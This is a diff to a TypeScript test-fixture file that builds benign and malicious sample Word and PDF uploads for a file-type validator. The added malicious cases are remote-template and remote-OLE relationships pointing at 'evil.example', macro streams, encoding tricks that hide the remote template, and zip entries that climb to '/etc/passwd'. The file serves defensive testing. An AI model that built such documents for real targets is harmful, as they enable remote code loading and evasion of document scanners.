@@ -64,12 +64,23 @@ const TEXT: Part = { name: 'word/document.xml', body: '<w:document>Hồ sơ</w:d
 /** A Word text with any parts beside its own. */
 export const docxWith = (...parts: Part[]): Buffer => zipOf([TYPES, TEXT, ...parts])
 
-const oleWith = (stream: string) => {
+/** An OLE file whose directory names these streams and storages. */
+const oleWith = (...names: string[]) => {
   const bytes = Buffer.alloc(4_096)
   Buffer.from('d0cf11e0a1b11ae1', 'hex').copy(bytes)
-  bytes.write(stream, 1_024 + 128, 'utf16le')
+  for (const [index, name] of ['Root Entry', ...names].entries()) {
+    const at = 1_024 + index * 128
+    bytes.write(name, at, 'utf16le')
+    bytes.writeUInt16LE(name.length * 2 + 2, at + 64)
+  }
   return bytes
 }
+
+const relation = (type: string, target: string, mode = ' TargetMode="External"') => ({
+  name: 'word/_rels/settings.xml.rels',
+  body: `<Relationships><Relationship Id="rId1" Type="http://schemas.example/relationships/${type}" Target="${target}"${mode}/></Relationships>`,
+})
+const remote = relation('attachedTemplate', 'https://evil.example/a.dotm')
 
 const executable = Buffer.concat([
   Buffer.from('MZ\x90\0\x03\0'),
@@ -80,6 +91,17 @@ const pdf = Buffer.from(`%PDF-1.7\n${'1 0 obj <</Type /Catalog>> endobj\n'.repea
 const zeros = Buffer.alloc(20 * 1024 * 1024)
 
 export const GOOD = { pdf, doc: oleWith('WordDocument'), docx: docxWith() } as const
+
+/** Texts that lead elsewhere as ordinary ones do. */
+export const ORDINARY: [what: string, bytes: Buffer][] = [
+  [
+    'made from a template on the writer’s disk',
+    docxWith(relation('attachedTemplate', 'file:///C:\\Mau\\CV.dotx')),
+  ],
+  ['made from the usual template', docxWith(relation('attachedTemplate', 'Normal.dotm'))],
+  ['with a link', docxWith(relation('hyperlink', 'https://bich.example/'))],
+  ['with its own parts', docxWith(relation('oleObject', 'embeddings/bang.xlsx', ''))],
+]
 
 /** Files that are not what they say, by what is wrong with them. */
 export const BAD: [what: string, extension: 'pdf' | 'doc' | 'docx', bytes: Buffer][] = [
@@ -101,6 +123,42 @@ export const BAD: [what: string, extension: 'pdf' | 'doc' | 'docx', bytes: Buffe
     zipOf([{ name: '[Content_Types].xml', body: '<Types>spreadsheetml.sheet.main+xml</Types>' }, TEXT]),
   ],
   ['a docx with macros', 'docx', docxWith({ name: 'word/vbaProject.bin', body: 'Sub AutoOpen' })],
+  [
+    'a docx with macros under another name',
+    'docx',
+    zipOf([
+      {
+        name: TYPES.name,
+        body: `${String(TYPES.body)}<Override ContentType="application/vnd.ms-office.vbaProject"/>`,
+      },
+      TEXT,
+    ]),
+  ],
+  ...['Macros', '_VBA_PROJECT', 'vba'].map(
+    (name) =>
+      [`a doc with macros (${name})`, 'doc', oleWith('WordDocument', name)] as [string, 'doc', Buffer],
+  ),
+  ['a docx whose template comes from elsewhere', 'docx', docxWith(remote)],
+  [
+    'a docx whose template comes from a neighbour',
+    'docx',
+    docxWith(relation('attachedTemplate', 'file://evil.example/share/a.dotm')),
+  ],
+  [
+    'a docx with an object from elsewhere',
+    'docx',
+    docxWith(relation('oleObject', 'https://evil.example/a.html!')),
+  ],
+  [
+    'a docx that hides where its template comes from',
+    'docx',
+    docxWith({ name: remote.name, body: Buffer.from(remote.body, 'utf16le') }),
+  ],
+  [
+    'a docx that spells what it fetches',
+    'docx',
+    docxWith({ name: remote.name, body: remote.body.replace('attached', '&#97;ttached') }),
+  ],
   ['a docx that was cut off', 'docx', docxWith().subarray(0, 300)],
   ['a docx whose part climbs out', 'docx', docxWith({ name: '../../etc/passwd', body: 'root' })],
   ['a docx whose part is absolute', 'docx', docxWith({ name: '/etc/passwd', body: 'root' })],
